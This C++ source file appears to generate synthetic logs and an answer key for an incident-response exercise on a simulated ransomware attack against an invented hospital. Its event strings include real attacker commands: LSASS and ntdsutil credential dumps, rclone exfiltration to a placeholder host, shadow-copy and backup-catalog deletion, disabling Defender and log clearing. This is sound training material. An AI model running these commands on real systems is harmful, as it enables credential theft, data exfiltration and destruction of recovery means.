// A ransomware driven by people: in by the VPN, from host to host by remote desktop, the directory,
// the data, then one night the protections, the backups, the logs and the machines.
#include <fmt/core.h>
#include <array>

#include "base/text.h"
#include "exercise/logs/pens.h"
#include "exercise/site_story.h"

namespace digue::exercise {

namespace {

using windows::Session;
using windows::Way;
using Texts = std::vector<std::string>;

class Ransomware {
 public:
  explicit Ransomware(SiteStory& story)
      : story_(story),
        site_(story.site),
        world_(story.site.world),
        random_(Random(world_.seed).fork("ransomware")),
        stolen_(site_.account_of(world_.person(world_.manager))),
        administrator_(site_.administrator_account(world_.person(world_.technician))),
        made_{"svc-sauvegarde", site_.sid(1977), nullptr} {}

  void tell() {
    way_in(world_.incident_day - 6);
    directory(world_.incident_day - 3);
    data(world_.incident_day - 2);
    night(world_.incident_day);
    conclude();
    papers();
  }

 private:
  windows::Scribe& on(Host::Role role) { return story_.fleet.on(role); }
  const std::string& address(Host::Role role) const { return site_.host(role).address; }

  void must(std::string rule, std::string level, std::string what, Instant time, Texts hosts,
            Texts items = {}, Texts accounts = {}) {
    Must fact;
    fact.rule = std::move(rule);
    fact.at_least = std::move(level);
    fact.what = std::move(what);
    fact.time = time;
    fact.hosts = std::move(hosts);
    fact.items = std::move(items);
    fact.accounts = std::move(accounts);
    fact.families = {"windows-log"};
    story_.truth.must.push_back(std::move(fact));
  }
  void must_on(Host::Role role, std::string rule, std::string level, std::string what, Instant time,
               Texts items = {}) {
    must(std::move(rule), std::move(level), std::move(what), time, {site_.host(role).lower_name()},
         std::move(items));
  }
  void answer(std::string item) { story_.truth.answers.emplace_back(std::move(item), "yes"); }

  // ---- the evening when they come in

  void way_in(int day) {
    const auto time = world_.at(day, 22, random_.between(2, 20));
    source_ = world_.network(Network::Use::hosting).address(random_);
    if (world_.seed % 2 == 0) guess_vpn(time);
    vpn(time, 170);
    story_.must_see_vpn(world_.person(world_.manager), source_, time);
    auto& desktops = on(Host::Role::desktops);
    const auto session = desktops.open(time + 6 * minute_ms, stolen_, Way::remote_desktop, inside);
    must("R22", "info", "who opened a session on the server of desktops", time + 6 * minute_ms,
         {site_.host(Host::Role::desktops).lower_name()}, {"mail-malware/c.8"},
         {site_.lower_account(stolen_)});
    discover(desktops, session, time + 12 * minute_ms);
    steal_passwords(desktops, session, time + 31 * minute_ms);
    guess_administrator(time + 50 * minute_ms);
    desktops.close(time + 160 * minute_ms, session, Way::remote_desktop);
  }

  void guess_vpn(Instant until) {
    for (int i = 44; i > 0; --i)
      story_.facts.vpn.push_back({.time = until - i * (11 * second_ms),
                                  .kind = logs::VpnAct::Kind::refused,
                                  .user = stolen_.name,
                                  .address = source_,
                                  .inside = "",
                                  .number = 900 + i});
    must("R21", "high", "a password of the VPN guessed", until, {}, {},
         site_.names_of(world_.person(world_.manager)));
    story_.truth.must.back().addresses = {source_};
  }
  void vpn(Instant start, int minutes) {
    logs::VpnAct act{
        .time = start, .user = stolen_.name, .address = source_, .inside = std::string(inside)};
    act.number = ++sessions_;
    story_.facts.vpn.push_back(act);
    act.kind = logs::VpnAct::Kind::closed;
    act.time = start + minutes * minute_ms;
    act.seconds = minutes * 60;
    act.sent = 41'000'000;
    act.received = 180'000'000;
    story_.facts.vpn.push_back(act);
  }

  void discover(windows::Scribe& scribe, const Session& session, Instant time) {
    scribe.run(time, session, "C:\\Windows\\System32\\whoami.exe", "whoami /all");
    scribe.run(time + minute_ms, session, "C:\\Windows\\System32\\net.exe",
               "net group \"Admins du domaine\" /domain");
    scribe.run(time + 2 * minute_ms, session, "C:\\Windows\\System32\\nltest.exe",
               "nltest /dclist:" + site_.netbios);
    scribe.run(time + 7 * minute_ms, session, "C:\\Users\\Public\\netscan.exe",
               "\"C:\\Users\\Public\\netscan.exe\" /hide /range:10.20.0.0-10.20.1.255");
    must("sigma/network-discovery-tool", "medium", "the network is scanned", time + 2 * minute_ms,
         {scribe.host().lower_name()});
  }

  void steal_passwords(windows::Scribe& scribe, const Session& session, Instant time) {
    scribe.run(time, session, "C:\\Windows\\System32\\rundll32.exe",
               "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 620 "
               "C:\\Users\\Public\\l.dmp full");
    must("sigma/credentials-dumped-by-command", "critical", "the memory of LSASS is copied", time,
         {scribe.host().lower_name()}, {"ransomware/2.e.2"});
  }

  // On some seeds the password is guessed on the backup server instead of being used at once.
  void guess_administrator(Instant time) {
    auto& backup = on(Host::Role::backup);
    const auto& from = address(Host::Role::desktops);
    const bool guesses = world_.seed % 4 < 2;
    for (int i = 0; guesses && i < 16; ++i)
      backup.refuse(time + i * (9 * second_ms), administrator_, from);
    const auto opened = time + 4 * minute_ms;
    const auto session = backup.open(opened, administrator_, Way::network, from, true);
    backup.close(opened + 8 * minute_ms, session, Way::network);
    if (guesses)
      must("R21", "high", "an administrator’s password guessed on the backup server", opened,
           {site_.host(Host::Role::backup).lower_name()}, {},
           {site_.lower_account(administrator_)});
  }

  // ---- the directory

  void directory(int day) {
    const auto time = world_.at(day, 23, random_.between(5, 30));
    vpn(time - 9 * minute_ms, 80);
    auto& controller = on(Host::Role::controller);
    const auto session = controller.open(time, administrator_, Way::remote_desktop,
                                         address(Host::Role::desktops), true);
    become_administrator(controller, session, time + 5 * minute_ms);
    esx_admins(controller, session, time + 13 * minute_ms);
    controller.run(time + 25 * minute_ms, session, "C:\\Windows\\System32\\ntdsutil.exe",
                   "ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\Users\\Public\\n\" q q");
    must_on(Host::Role::controller, "sigma/credentials-dumped-by-command", "critical",
            "the whole directory is copied", time + 25 * minute_ms, {"ransomware/2.e.2"});
    controller.close(time + 50 * minute_ms, session, Way::remote_desktop);
  }

  void become_administrator(windows::Scribe& controller, const Session& session, Instant time) {
    controller.make_account(time, session, made_);
    controller.add_member(time + 40 * second_ms, session,
                          {"Admins du domaine", windows::domain_admins}, made_);
    must_on(Host::Role::controller, "sigma/account-created-then-admin", "critical",
            "an account is made, and made administrator of the domain", time, {"ransomware/2.b.2"});
    must("sigma/domain-admins-member-added", "high", "member added to Admins du domaine",
         time + 40 * second_ms, {site_.host(Host::Role::controller).lower_name()},
         {"ransomware/2.b.2"}, {site_.lower_account(administrator_)});
    story_.truth.must.back().families = {"windows-log"};
  }

  void esx_admins(windows::Scribe& controller, const Session& session, Instant time) {
    const windows::Group group{random_.chance(50) ? "ESX Admins" : "ESXi Admins", 1978};
    controller.make_group(time, session, group);
    controller.add_member(time + 20 * second_ms, session, group, made_);
    must_on(Host::Role::controller, "sigma/esx-admins-created", "high",
            "the group that ESXi trusts is made", time, {"ransomware/2.b.3"});
    must_on(Host::Role::controller, "sigma/esx-admins-member-added", "high", "and gets a member",
            time + 20 * second_ms, {"ransomware/2.b.3"});
  }

  // ---- the data

  void data(int day) {
    const auto time = world_.at(day, 1, random_.between(40, 59));
    vpn(time - 20 * minute_ms, 290);
    auto& files = on(Host::Role::files);
    const auto session =
        files.open(time, made_, Way::remote_desktop, address(Host::Role::desktops), true);
    pack(files, session, time + 4 * minute_ms);
    send_out(files, session, time + 70 * minute_ms);
    files.close(time + 250 * minute_ms, session, Way::remote_desktop);
  }

  void pack(windows::Scribe& files, const Session& session, Instant time) {
    static constexpr std::array<std::string_view, 14> folders = {
        "Direction", "Finances", "RH",     "Marches", "Juridique", "Dossiers", "Messagerie",
        "Technique", "Achats",   "Projet", "Qualite", "Archives",  "Elus",     "Commun"};
    int minutes = 0;
    for (const auto folder : folders)
      files.run(time + minutes++ * (2 * minute_ms), session, "C:\\PerfLogs\\7z.exe",
                fmt::format("7z.exe a -p{} -mhe=on C:\\PerfLogs\\{}.7z D:\\Partage\\{}", "Xk71",
                            folder, folder));
    must_on(Host::Role::files, "sigma/archives-in-mass", "high", "shares packed with a password",
            time, {"ransomware/1.b.4"});
    must_on(Host::Role::files, "R26", "medium", "archives in numbers", time, {"ransomware/1.b.4"});
  }

  void send_out(windows::Scribe& files, const Session& session, Instant time) {
    files.run(time, session, "C:\\PerfLogs\\rclone.exe",
              "rclone.exe copy C:\\PerfLogs\\ depot:a --transfers 16 --no-check-certificate");
    must_on(Host::Role::files, "sigma/exfiltration-tool", "high", "a tool that sends data out",
            time);
    const Host& host = site_.host(Host::Role::files);
    const std::string server = world_.network(Network::Use::hosting).address(random_);
    story_.facts.names.push_back({time + second_ms, host.address, std::string(drop)});
    if (logs::counts_sent_bytes(site_)) {
      must("R27", "critical", "forty gigabytes leave in one night", time, {}, {"ransomware/1.c.6"});
      story_.truth.must.back().addresses = {host.address};
      answer("ransomware/1.c.6");
    }
    for (int i = 0; i < 12; ++i) {
      logs::WebRequest upload{.time = time + i * (13 * minute_ms), .from = &host};
      upload.method = "POST";
      upload.host = drop;
      upload.server = server;
      upload.path = fmt::format("/up/{}", i);
      upload.sent = 3'100'000'000 + random_.below(900'000'000);
      upload.received = 2000;
      story_.facts.flows.push_back({.time = upload.time,
                                    .source = host.address,
                                    .destination = server,
                                    .sent = upload.sent + 5'000'000,
                                    .received = 9'000'000,
                                    .seconds = 760});
      story_.facts.web.push_back(std::move(upload));
    }
  }

  // ---- the last night

  void night(int day) {
    const auto time = world_.at(day, 1, random_.between(0, 15));
    vpn(time - 10 * minute_ms, 220);
    first_alert(time);
    const std::array<Host::Role, 4> servers = {Host::Role::files, Host::Role::backup,
                                               Host::Role::records, Host::Role::desktops};
    std::vector<Session> sessions;
    for (std::size_t i = 0; i < servers.size(); ++i)
      sessions.push_back(
          enter(on(servers[i]), time + 6 * minute_ms + static_cast<int>(i) * (3 * minute_ms)));
    spread_over(time);
    for (std::size_t i = 0; i < servers.size(); ++i)
      end_protections(on(servers[i]), sessions[i],
                      time + 25 * minute_ms + static_cast<int>(i) * (2 * minute_ms));
    prevent_recovery(on(Host::Role::files), sessions[0], time + 45 * minute_ms);
    end_backups(on(Host::Role::backup), sessions[1], time + 52 * minute_ms);
    machines(time + 60 * minute_ms);
    erase_traces(sessions[2], time + 130 * minute_ms);
  }

  // Before the antivirus is stopped, it sees the program and cannot remove it.
  void first_alert(Instant time) {
    const Host& host = site_.host(Host::Role::backup);
    const std::string path = "C:\\PerfLogs\\w.exe";
    story_.fleet.on(host).find_threat(time + 3 * minute_ms, administrator_,
                                      {"Ransom:Win64/Blackrock.A!dha", path, false});
    must_on(Host::Role::backup, "sigma/defender-found-ransomware", "critical",
            "ransomware seen by the antivirus", time + 3 * minute_ms, {"ransomware/1.b.1"});
    must_on(Host::Role::backup, "sigma/threat-not-cleaned", "high", "which could not remove it",
            time + 3 * minute_ms);
    must("R29", "critical", "the antivirus console names ransomware", time + 3 * minute_ms,
         {lower(host.name)}, {"ransomware/1.b.1"});
    must("R29", "critical", "on several servers", time + 3 * minute_ms,
         {lower(site_.host(Host::Role::files).name)}, {"ransomware/1.b.1"});
    for (auto fact = story_.truth.must.rbegin(); fact != story_.truth.must.rbegin() + 2; ++fact)
      fact->families.clear();  // no Windows log says so
    const auto hash = random_.hex(64);
    for (const auto role : {Host::Role::backup, Host::Role::files})
      story_.facts.alerts.push_back({time + 3 * minute_ms, &site_.host(role), nullptr,
                                     "Ransom.Win64.Blackrock", path, hash,
                                     logs::Alert::Action::nothing});
  }

  Session enter(windows::Scribe& scribe, Instant time) {
    const auto session =
        scribe.open(time, made_, Way::remote_desktop, address(Host::Role::desktops), true);
    scribe.install_service(time + 40 * second_ms, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe");
    return session;
  }

  void spread_over(Instant time) {
    must("R23", "medium", "an administrator’s account on many hosts at night",
         world_.at(world_.incident_day - 2, 1, 40), {}, {"ransomware/2.b.4"},
         {site_.lower_account(made_)});
    for (const auto role : {Host::Role::files, Host::Role::backup, Host::Role::desktops})
      must_on(role, "sigma/service-for-remote-commands", "high", "PsExec’s service", time);
  }

  void end_protections(windows::Scribe& scribe, const Session& session, Instant time) {
    scribe.run(time, session, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
               "powershell -ep bypass Set-MpPreference -DisableRealtimeMonitoring $true");
    scribe.end_protection(time + 2 * second_ms);
    scribe.service_state(time + 20 * second_ms, "Service antivirus Microsoft Defender", "WinDefend",
                         false);
    const Texts hosts = {scribe.host().lower_name()};
    must("sigma/defender-turned-off", "high", "Defender turned off", time, hosts);
    must("sigma/security-service-stopped", "medium", "and its service stopped", time, hosts);
    if (told_protections_) return;
    told_protections_ = true;
    must("sigma/protection-ended-on-several-hosts", "critical", "on host after host", time, {},
         {"ransomware/1.c.4"});
  }

  void prevent_recovery(windows::Scribe& files, const Session& session, Instant time) {
    files.run(time, session, "C:\\Windows\\System32\\vssadmin.exe",
              "vssadmin delete shadows /all /quiet");
    files.run(time + minute_ms, session, "C:\\Windows\\System32\\bcdedit.exe",
              "bcdedit /set {default} recoveryenabled No");
    must_on(Host::Role::files, "sigma/shadow-copies-deleted", "critical", "shadow copies deleted",
            time, {"ransomware/1.d.2"});
    must_on(Host::Role::files, "sigma/recovery-prevented", "critical", "recovery switched off",
            time + minute_ms, {"ransomware/1.d.2"});
  }

  void end_backups(windows::Scribe& backup, const Session& session, Instant time) {
    backup.run(time, session, "C:\\Windows\\System32\\net.exe", "net stop VeeamBackupSvc /y");
    backup.run(time + minute_ms, session, "C:\\Windows\\System32\\wbadmin.exe",
               "wbadmin delete catalog -quiet");
    for (int i = 0; const auto& service : windows::stopped_services())
      backup.service_state(time + 3 * second_ms * i++, service.display, service.key, false);
    must_on(Host::Role::backup, "R25", "high", "services stopped together", time,
            {"ransomware/1.c.2"});
    must_on(Host::Role::backup, "sigma/backup-service-ended", "medium",
            "the service of the backups stopped", time);
    must_on(Host::Role::backup, "sigma/recovery-prevented", "critical",
            "the catalogue of backups deleted", time + minute_ms, {"ransomware/1.d.2"});
  }

  void machines(Instant time) {
    const std::string user = site_.netbios + '\\' + made_.name;
    const auto act = [&](std::int64_t after, logs::MachineAct::Kind kind, std::string what,
                         int host) {
      story_.facts.machines.push_back({time + after, kind, std::move(what),
                                       fmt::format("esx{}.{}", host, world_.domain), user,
                                       address(Host::Role::desktops)});
    };
    using Kind = logs::MachineAct::Kind;
    act(0, Kind::signed_in, "", 1);
    act(3 * minute_ms, Kind::ssh_enabled, "", 1);
    for (int i = 0; i < 18; ++i)
      act(5 * minute_ms + i * (14 * second_ms), Kind::powered_off,
          fmt::format("SRV-VM{:02}", i + 1), i % 3 + 1);
    act(12 * minute_ms, Kind::shell_command, "esxcli vm process kill --type=force --world-id=2101",
        1);
  }

  void erase_traces(const Session& session, Instant time) {
    auto& records = on(Host::Role::records);
    auto& controller = on(Host::Role::controller);
    records.run(time, session, "C:\\Windows\\System32\\wevtutil.exe", "wevtutil cl Security");
    records.clear_security_log(time + second_ms, session);
    must_on(Host::Role::records, "sigma/security-log-cleared", "high", "a Security log emptied",
            time + second_ms);
    const auto last = controller.open(time + 2 * minute_ms, made_, Way::remote_desktop,
                                      address(Host::Role::desktops), true);
    controller.clear_system_log(time + 4 * minute_ms, last);
    must_on(Host::Role::controller, "sigma/other-log-cleared", "high", "a System log emptied",
            time + 4 * minute_ms);
    controller.close(time + 9 * minute_ms, last, Way::remote_desktop);
  }

  void conclude() {
    for (const auto* item :
         {"ransomware/1.b.1", "ransomware/1.b.4", "ransomware/1.c.4", "ransomware/1.d.2",
          "ransomware/2.b.2", "ransomware/2.b.3", "ransomware/2.b.4", "ransomware/2.e.2"})
      answer(item);
    std::vector<const Person*> bystanders;
    for (const auto& person : world_.people)
      if (person.alias != stolen_.name) bystanders.push_back(&person);
    story_.spare(bystanders);
    story_.truth.compromised = {site_.lower_account(stolen_), site_.lower_account(administrator_),
                                site_.lower_account(made_)};
    story_.truth.intruder_addresses = {source_};
  }

  void papers();

  static constexpr std::string_view inside = "10.99.0.240";
  static constexpr std::string_view drop = "transferts-rapides.example";
  SiteStory& story_;
  const Site& site_;
  const World& world_;
  Random random_;
  Account stolen_, administrator_, made_;
  std::string source_;
  int sessions_ = 700;
  bool told_protections_ = false;
};

void Ransomware::papers() {
  const auto morning = world_.at(world_.incident_day, 6, 30);
  story_.french = fmt::format(
      "# Exercice : un rançongiciel\n\n"
      "Vous êtes d’astreinte : {0}. Tout est inventé : les noms, les domaines en `.example` et les "
      "adresses, privées ou réservées à la documentation.\n\n"
      "Le {1}, les premiers arrivés ne trouvent plus leurs partages, et les machines virtuelles "
      "sont éteintes. Un fichier demande une rançon. Les administrateurs ont copié les journaux "
      "des serveurs Windows, de l’hyperviseur, du pare-feu, du VPN, du proxy, du serveur de noms "
      "et de l’antivirus dans `evidence/`. Les systèmes sont en français, à l’heure de Paris.\n\n"
      "À vous de dire :\n\n"
      "1. par où, quand et avec quels comptes l’intrus est entré ;\n"
      "2. quels droits il a pris dans l’annuaire, et ce qu’il y a laissé ;\n"
      "3. ce qui est sorti, et par où ;\n"
      "4. quelles protections, quelles sauvegardes et quels journaux il a touchés ;\n"
      "5. qui n’y est pour rien : des administrateurs travaillent aussi.\n\n"
      "`truth.json` donne la solution. Ne l’ouvrez qu’après.\n",
      world_.hospital, utc_day(morning));
  story_.english = fmt::format(
      "# Exercise: ransomware\n\n"
      "You are on call: {0}. Everything is invented: the names, the `.example` domains and the "
      "addresses, which are private or kept for documentation.\n\n"
      "On {1}, the first to arrive no longer find their shares, and the virtual machines are off. "
      "A file asks for a ransom. The administrators copied the logs of the Windows servers, of the "
      "hypervisor, firewall, VPN, proxy, name server and antivirus into `evidence/`. The systems "
      "speak French, in the time of Paris.\n\n"
      "It is for you to say:\n\n"
      "1. by which way, when and with which accounts the intruder came in;\n"
      "2. which rights were taken in the directory, and what was left there;\n"
      "3. what went out, and by which way;\n"
      "4. which protections, backups and logs were touched;\n"
      "5. who has nothing to do with it: administrators work, too.\n\n"
      "`truth.json` is the solution. Open it only afterwards.\n",
      world_.hospital, utc_day(morning));
}

}  // namespace

void tell_ransomware(SiteStory& story) {
  Ransomware(story).tell();
}

}  // namespace digue::exercise
